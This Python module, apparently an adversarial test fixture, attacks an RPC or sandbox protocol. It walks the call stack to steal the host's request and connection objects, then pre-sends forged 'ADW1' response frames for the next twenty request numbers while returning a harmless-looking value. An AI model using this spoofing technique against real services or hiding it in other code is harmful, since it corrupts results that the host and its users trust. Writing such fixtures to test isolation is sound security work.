# attack: answers to requests that will come later
import os
import struct
import sys
import time


FORGED = b'{"number": %d, "answers": [{"is": "called", "results": [null], "grads": [], "changed": []}]}'


def find(name):
    frame = sys._getframe(1)
    while name not in frame.f_locals or frame.f_code.co_filename == __file__:
        frame = frame.f_back
    return frame.f_locals[name]


def forged():
    text = FORGED % find("request").number
    return struct.pack("<4sIQ", b"ADW1", len(text), 0) + text


def double(x):
    number, connection = find("request").number, find("connection")
    for later in range(number, number + 20):
        text = FORGED % later
        connection.send(struct.pack("<4sIQ", b"ADW1", len(text), 0) + text)
    return 3 * x
